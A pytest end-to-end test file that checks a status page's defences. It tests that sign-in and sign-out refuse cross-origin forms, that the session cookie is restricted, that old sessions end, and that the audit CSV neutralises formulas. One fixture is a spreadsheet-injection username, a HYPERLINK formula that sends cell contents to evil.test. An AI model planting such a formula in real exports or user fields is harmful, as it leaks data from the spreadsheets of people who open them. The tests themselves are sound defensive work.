"""The origin's status page as an outsider meets it (attack17's review of issue 17): a real origin
and a real registry, plain HTTP (what a forging site or a script can send, which a browser would
not let a test write). Sign-in and sign-out refuse forms from anywhere but the page; the session
cookie is HttpOnly and SameSite=Strict and opens the page's GET routes only, never /v1/...; a
principal a registry user chose, starting with "=", reaches the audit CSV as text."""

from __future__ import annotations

import csv
import http.client
import io
import subprocess
import sys
from collections.abc import Iterator
from http.cookies import SimpleCookie
from pathlib import Path
from urllib.parse import urlencode, urlsplit

import pytest

from shoal import protocol
from tests.e2e.conftest import USERS
from tests.support.procs import ROOT
from tests.support.registry import Registry
from tests.support.stack import Stack

# A registry user whose name a spreadsheet would run: the principal of its sign-in's audit event
FORMULA_USER = '=HYPERLINK("//evil.test/?"&A1,"open")'  # (htpasswd: no colon)
FORMULA_PASSWORD = "formulapw"


@pytest.fixture
def stack(tmp_path: Path) -> Iterator[Stack]:
    reg = Registry(tmp_path / "registry", users={**USERS, FORMULA_USER: FORMULA_PASSWORD})
    reg.start()
    s = Stack(tmp_path / "stack", reg, node_user=("node", USERS["node"]), seeder_user=("seeder", USERS["seeder"]))
    try:
        s.start_tracker()
        s.start_origin(operators={"registry": {"upstream": reg.host, "roles": {FORMULA_USER: ["audit"]}}})
        yield s
    finally:
        s.close()
        reg.close()


def request(url: str, method: str, path: str, *, headers: dict[str, str] | None = None,
            body: bytes | None = None) -> tuple[int, http.client.HTTPMessage, bytes]:
    """One request, redirects not followed (the sign-in answers 303 with its cookie)."""
    parts = urlsplit(url)
    conn = http.client.HTTPConnection(parts.netloc, timeout=30)
    try:
        conn.request(method, path, body=body, headers=headers or {})
        resp = conn.getresponse()
        return resp.status, resp.headers, resp.read()
    finally:
        conn.close()


def form(origin: str | None) -> dict[str, str]:
    headers = {"Content-Type": "application/x-www-form-urlencoded"}
    if origin is not None:
        headers["Origin"] = origin
    return headers


def sign_in(url: str, body: bytes, *, headers: dict[str, str]) -> tuple[dict[str, str], SimpleCookie]:
    """POST the sign-in form: it must answer 303 with a session cookie. The Cookie header that
    presents the session, and the cookie as set (its attributes)."""
    status, answer, text = request(url, "POST", protocol.PAGE_SIGNIN.pattern, headers=headers, body=body)
    assert status == 303, text
    jar: SimpleCookie = SimpleCookie(answer["Set-Cookie"])
    return {"Cookie": f"shoal_session={jar['shoal_session'].value}"}, jar


def page(stack: Stack) -> tuple[str, str]:
    """The origin's URL, and the Origin its own page's forms send."""
    assert stack.origin is not None
    return stack.origin.url, f"http://{urlsplit(stack.origin.url).netloc}"


def admin_token(stack: Stack, name: str, roles: str) -> str:
    done = subprocess.run([sys.executable, "-m", "shoal_origin", "add-operator", name, "--roles", roles,
                           "--operators", str(stack.keys["operators"])],
                          capture_output=True, text=True, timeout=30, cwd=ROOT)
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


def test_the_session_cookie_opens_the_page_only_and_forms_come_from_the_page(stack: Stack) -> None:
    url, own = page(stack)
    token = admin_token(stack, "auditor", "audit,seed")
    signin = urlencode({"token": token}).encode()

    # a login CSRF: the same form posted by another site (another port of the same host is
    # another origin, though the same site for SameSite), or by a page that sends no Origin
    for headers in (form("http://evil.test"), form(own.rsplit(":", 1)[0] + ":1"), form("null"),
                    form(None), {**form(None), "Sec-Fetch-Site": "same-site"}):
        status, answer, _ = request(url, "POST", protocol.PAGE_SIGNIN.pattern, headers=headers, body=signin)
        assert status == 403, headers
        assert answer.get("Set-Cookie") is None

    cookie, jar = sign_in(url, signin, headers=form(own))
    assert jar["shoal_session"]["httponly"] and jar["shoal_session"]["samesite"] == "Strict"
    assert int(jar["shoal_session"]["max-age"]) <= 8 * 3600

    # the page's JSON opens with the cookie, not cached, under the page's CSP
    status, answer, body = request(url, "GET", protocol.PAGE_OVERVIEW.pattern, headers=cookie)
    assert status == 200, body
    assert answer["Cache-Control"] == "no-store" and "frame-ancestors 'none'" in answer["Content-Security-Policy"]

    # ... and nothing under /v1/: not the audit API, not a pre-seed (the operator holds seed)
    status, _, _ = request(url, "GET", protocol.AUDIT.pattern + "?limit=1", headers=cookie)
    assert status == 401
    status, _, _ = request(url, "POST", protocol.PRESEED.pattern, headers={**cookie, "Origin": own,
                                                                           "Content-Type": "application/json"},
                           body=b'{"images": ["x/y:1"]}')
    assert status == 401
    # nor a page route by a method that changes state
    status, _, _ = request(url, "POST", protocol.PAGE_AUDIT.pattern, headers={**cookie, "Origin": own})
    assert status in (401, 405)

    # a forced sign-out: from another site, or from the page's origin without the session's CSRF
    # token, refused; the session still opens the page
    for headers in ({**cookie, **form("http://evil.test")}, {**cookie, **form(own)}):
        status, _, _ = request(url, "POST", protocol.PAGE_SIGNOUT.pattern, headers=headers,
                               body=urlencode({"csrf": "guessed"}).encode())
        assert status == 403
    assert request(url, "GET", protocol.PAGE_OVERVIEW.pattern, headers=cookie)[0] == 200


def test_a_principal_that_is_a_formula_reaches_the_csv_as_text(stack: Stack) -> None:
    url, own = page(stack)
    login = urlencode({"username": FORMULA_USER, "password": FORMULA_PASSWORD}).encode()
    cookie, _ = sign_in(url, login, headers=form(own))
    # the page's own CSV link, as the browser downloads it
    status, answer, body = request(url, "GET", protocol.PAGE_AUDIT.pattern + "?" + urlencode(
        {"principal": FORMULA_USER, "limit": "500", "format": "csv"}), headers=cookie)
    assert status == 200, body
    assert answer["X-Content-Type-Options"] == "nosniff"
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    assert rows, body  # (the sign-in is an audit event of that principal)
    for row in rows:
        for value in row.values():
            assert not (value or "").startswith(("=", "+", "-", "@", "\t", "\r")), row
        assert row["principal"] == "'" + FORMULA_USER


def test_signing_in_again_ends_the_session_of_the_old_cookie(stack: Stack) -> None:
    # (on main the old cookie kept opening the page for its 8 hours: a browser handed to another
    # operator, or a cookie that leaked, stayed signed in alongside the new session)
    url, own = page(stack)
    token = admin_token(stack, "auditor", "audit")
    signin = urlencode({"token": token}).encode()
    old, _ = sign_in(url, signin, headers=form(own))
    assert request(url, "GET", protocol.PAGE_OVERVIEW.pattern, headers=old)[0] == 200
    new, _ = sign_in(url, signin, headers={**old, **form(own)})
    assert new != old
    assert request(url, "GET", protocol.PAGE_OVERVIEW.pattern, headers=new)[0] == 200
    assert request(url, "GET", protocol.PAGE_OVERVIEW.pattern, headers=old)[0] == 401
